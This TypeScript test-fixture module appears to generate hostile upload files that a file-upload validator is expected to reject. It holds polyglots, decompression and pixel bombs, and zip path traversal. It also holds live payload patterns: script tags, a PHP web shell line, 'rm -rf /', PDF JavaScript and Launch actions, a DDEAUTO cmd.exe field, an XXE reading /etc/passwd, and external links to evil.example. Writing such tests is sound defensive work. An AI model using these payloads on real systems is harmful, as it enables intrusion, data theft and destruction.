import { deflateRawSync, deflateSync } from 'node:zlib';
import { officeParts, packedPdf, smallDoc, smallJpeg, smallPdf, smallPng, zipOf } from './small-files.ts';

/** A file that must not be kept: its name and its bytes. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
}

const SCRIPT = '<script>alert(document.domain)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** Endings that nobody may upload, of files that are harmless in themselves. */
function foreignEndings(): HostileFile[] {
  const names = [
    'logo.svg',
    'logo.svgz',
    'page.html',
    'page.xhtml',
    'page.mht',
    'code.js',
    'code.mjs',
    'run.exe',
    'run.bat',
    'run.ps1',
    'run.hta',
    'run.jar',
    'app.php',
    'app.jsp',
    'macro.docm',
    'macro.xlsm',
    'old.xls',
    'pack.zip',
    'note.txt',
    'picture.gif',
    'picture.webp',
    'logo.png.exe',
    'logo.png.',
    'logo.png ',
    'logo.png/',
    'logo.png::$DATA',
    'logo.png%00.exe',
    '.png',
    '.htaccess',
    'logo',
  ];
  return names.map((name) => ({ what: `named ${name}`, name, bytes: smallPng() }));
}

function bytes(text: string): Buffer {
  return Buffer.from(text);
}

/** Bytes of another kind than the name says. */
function mistakenKinds(): HostileFile[] {
  return [
    { what: 'SVG called PNG', name: 'a.png', bytes: bytes(SVG) },
    { what: 'HTML called PNG', name: 'a.png', bytes: bytes(HTML) },
    { what: 'HTML called JPEG', name: 'a.jpg', bytes: bytes(HTML) },
    { what: 'HTML called PDF', name: 'a.pdf', bytes: bytes(HTML) },
    { what: 'HTML called DOC', name: 'a.doc', bytes: bytes(HTML) },
    { what: 'PNG called JPEG', name: 'a.jpg', bytes: smallPng() },
    { what: 'JPEG called PNG', name: 'a.png', bytes: smallJpeg() },
    { what: 'PDF called DOCX', name: 'a.docx', bytes: smallPdf() },
    { what: 'GIF with a script called PNG', name: 'a.png', bytes: bytes(`GIF89a/*${SCRIPT}*/`) },
    { what: 'a program called PDF', name: 'a.pdf', bytes: bytes(`MZ${'\0'.repeat(60)}`) },
    { what: 'a shell script called PNG', name: 'a.png', bytes: bytes('#!/bin/sh\nrm -rf /\n') },
    { what: 'nothing but a beginning called PNG', name: 'a.png', bytes: smallPng().subarray(0, 8) },
    { what: 'nothing but a beginning called JPEG', name: 'a.jpeg', bytes: smallJpeg().subarray(0, 4) },
    { what: 'the virus scanners’ test called PDF', name: 'a.pdf', bytes: bytes(`%PDF-1.4\n${EICAR}\n%%EOF`) },
  ];
}

/** Files that are two things at once. */
async function polyglots(): Promise<HostileFile[]> {
  const archive = await zipOf({ 'index.html': HTML });
  const pairs: readonly (readonly [string, Buffer])[] = [
    ['a.png', Buffer.concat([smallPng(), Buffer.from(HTML)])],
    ['a.png', Buffer.concat([smallPng(), archive])],
    ['a.png', Buffer.concat([smallPng(), Buffer.from('<?php system($_GET[0]); ?>')])],
    ['a.jpg', Buffer.concat([smallJpeg(), Buffer.from(HTML)])],
    ['a.jpg', Buffer.concat([smallJpeg(), archive])],
    ['a.jpg', Buffer.concat([smallJpeg(), smallPdf()])],
    ['a.pdf', Buffer.concat([Buffer.from(HTML), smallPdf()])],
    ['a.pdf', Buffer.concat([smallPdf(), archive])],
    ['a.pdf', Buffer.concat([smallPdf(), archive, Buffer.from('%%EOF\n')])],
    ['a.docx', Buffer.concat([Buffer.from(HTML), await zipOf(officeParts('docx'))])],
    ['a.docx', Buffer.concat([await zipOf(officeParts('docx')), Buffer.from(HTML)])],
    ['a.doc', Buffer.concat([smallDoc(), Buffer.from(HTML)])],
  ];
  return pairs.map(([name, both], at) => ({ what: `two things at once, ${at + 1}`, name, bytes: both }));
}

/** Pictures that are more than they seem, or less. */
function bombsOfPixels(): HostileFile[] {
  const damaged = smallPng();
  damaged.writeUInt8(9, 24);
  return [
    { what: 'a PNG of 400 megapixels', name: 'a.png', bytes: smallPng({ width: 20_000, height: 20_000 }) },
    {
      what: 'a PNG of the most pixels',
      name: 'a.png',
      bytes: smallPng({ width: 0x7fffffff, height: 0x7fffffff }),
    },
    {
      what: 'a JPEG of 4,295 megapixels',
      name: 'a.jpg',
      bytes: smallJpeg({ width: 65_535, height: 65_535 }),
    },
    { what: 'a PNG without size', name: 'a.png', bytes: smallPng({ width: 0, height: 1 }) },
    { what: 'a damaged PNG', name: 'a.png', bytes: damaged },
    { what: 'a PNG that ends in the middle', name: 'a.png', bytes: smallPng().subarray(0, -4) },
    { what: 'a JPEG that ends in the middle', name: 'a.jpg', bytes: smallJpeg().subarray(0, -2) },
  ];
}

/** Documents that act. */
function actingPdfs(): HostileFile[] {
  const catalogs = [
    '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>',
    '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>',
    '/OpenAction<</S/Launch/F(cmd.exe)>>',
    '/Names<</EmbeddedFiles 3 0 R>>',
    '/AcroForm<</XFA 3 0 R>>',
    '/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>',
    '/RichMedia 3 0 R',
  ];
  return catalogs.flatMap((catalog) => [
    { what: `a PDF with ${catalog}`, name: 'a.pdf', bytes: smallPdf(catalog) },
    { what: `a PDF with ${catalog} in a packed stream`, name: 'a.pdf', bytes: packedPdf(catalog) },
  ]);
}

/** A stream of a PDF that unpacks to 200 MB. */
function swollenPdf(): Buffer {
  const packed = deflateSync(Buffer.alloc(200 * 1024 * 1024));
  const [head = '', tail = ''] = smallPdf().toString('latin1').split('trailer');
  const stream = `4 0 obj<</Filter/FlateDecode/Length ${packed.length}>>stream\n`;
  return Buffer.concat([
    Buffer.from(`${head}${stream}`, 'latin1'),
    packed,
    Buffer.from(`\nendstream endobj\ntrailer${tail}`, 'latin1'),
  ]);
}

/** What begins and ends as a PDF does and cannot be read as one, or only with a password. */
function brokenPdfs(): HostileFile[] {
  const whole = smallPdf().toString('latin1');
  const script = packedPdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>').toString('latin1');
  const replaced = `${script}1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
  const texts = {
    'a text between the marks of a PDF': '%PDF-1.4\nnothing that a reader knows\n%%EOF\n',
    'a page between the marks of a PDF': `%PDF-1.4\n${HTML}\n%%EOF\n`,
    'a PDF without a page': whole.replace('Kids[3 0 R]/Count 1', 'Kids[]/Count 0'),
    'a PDF behind a password': whole.replace('/Root', '/Encrypt<</Filter/Standard/V 1/R 2>>/Root'),
    'a PDF whose script a later part replaces': replaced,
  };
  return Object.entries(texts).map(([what, text]) => ({
    what,
    name: 'a.pdf',
    bytes: Buffer.from(text, 'latin1'),
  }));
}

/** Archives that name a part in a way that leaves the folder; a library would not write them. */
function renamed(archive: Buffer, from: string, to: string): Buffer {
  return Buffer.from(archive.toString('latin1').replaceAll(from, to), 'latin1');
}

/** An archive whose directory says that its one big part unpacks to 10 bytes. */
async function understated(): Promise<Buffer> {
  const big = Buffer.alloc(200 * 1024 * 1024);
  const zip = await zipOf({ ...officeParts('xlsx'), 'xl/big.xml': big });
  const size = Buffer.alloc(4);
  size.writeUInt32LE(big.length);
  const told = Buffer.from([10, 0, 0, 0]);
  return renamed(zip, size.toString('latin1'), told.toString('latin1'));
}

async function docx(more: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  return zipOf({ ...officeParts('docx'), ...more });
}

/** Relationships of a document, one of them to elsewhere. */
function rels(type: string): string {
  return `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" TargetMode="External" Target="https://evil.example/x"/></Relationships>`;
}

async function hostileArchives(): Promise<HostileFile[]> {
  const traversing = await docx({ 'aa/aa/evil.xml': '<x/>' });
  const many = Object.fromEntries(Array.from({ length: 1_200 }, (_, at) => [`word/p${at}.xml`, '<x/>']));
  const files: readonly (readonly [string, Buffer])[] = [
    ['no Word document', await zipOf({ 'index.html': HTML })],
    ['a workbook called DOCX', await zipOf(officeParts('xlsx'))],
    ['macros', await docx({ 'word/vbaProject.bin': 'x' })],
    [
      'content types that enable macros',
      await docx({ 'word/x.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    ['a control', await docx({ 'word/activeX/activeX1.xml': '<x/>' })],
    ['another file inside', await docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a page inside', await docx({ 'word/afchunk.html': HTML })],
    ['an SVG inside', await docx({ 'word/media/a.svg': SVG })],
    ['a template from elsewhere', await docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate') })],
    ['an object from elsewhere', await docx({ 'word/_rels/document.xml.rels': rels('oleObject') })],
    [
      'a field that runs a program',
      await docx({ 'word/x.xml': '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>' }),
    ],
    [
      'entities',
      await docx({ 'word/x.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
    ],
    [
      'entities in another encoding',
      await docx({ 'word/x.xml': Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]>', 'utf16le') }),
    ],
    ['more than 100 MB', await docx({ 'word/big.xml': Buffer.alloc(101 * 1024 * 1024) })],
    ['more than 1,000 parts', await docx(many)],
    ['a part outside of it', renamed(traversing, 'aa/aa/evil.xml', '../../evil.xml')],
    ['a part at an absolute path', renamed(traversing, 'aa/aa/evil.xml', '/aaaa/evil.xml')],
    ['a part on another drive', renamed(traversing, 'aa/aa/evil.xml', 'C:/aaa/evil.xml')],
    [
      'a part twice',
      renamed(await docx({ 'word/document2xml': '<y/>' }), 'word/document2xml', 'word/document.xml'),
    ],
    ['a damaged directory', renamed(await docx({}), 'PK\x01\x02', 'PK\x01\x03')],
  ];
  return [
    ...files.map(([what, archive]) => ({ what: `a DOCX with ${what}`, name: 'a.docx', bytes: archive })),
    { what: 'an XLSX that hides 200 MB', name: 'a.xlsx', bytes: await understated() },
    { what: 'an XLSX that is no archive', name: 'a.xlsx', bytes: deflateRawSync(Buffer.from(HTML)) },
    ...['Macros', '_VBA_PROJECT', '\u0001Ole10Native', 'ObjectPool'].map((stream) => ({
      what: `a DOC with ${JSON.stringify(stream)}`,
      name: 'a.doc',
      bytes: smallDoc([stream]),
    })),
  ];
}

/** Files that somebody may try to have kept and handed out; all of them must be refused. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  return [
    ...foreignEndings(),
    ...mistakenKinds(),
    ...(await polyglots()),
    ...bombsOfPixels(),
    ...actingPdfs(),
    ...brokenPdfs(),
    { what: 'a PDF that unpacks to 200 MB', name: 'a.pdf', bytes: swollenPdf() },
    ...(await hostileArchives()),
  ];
}
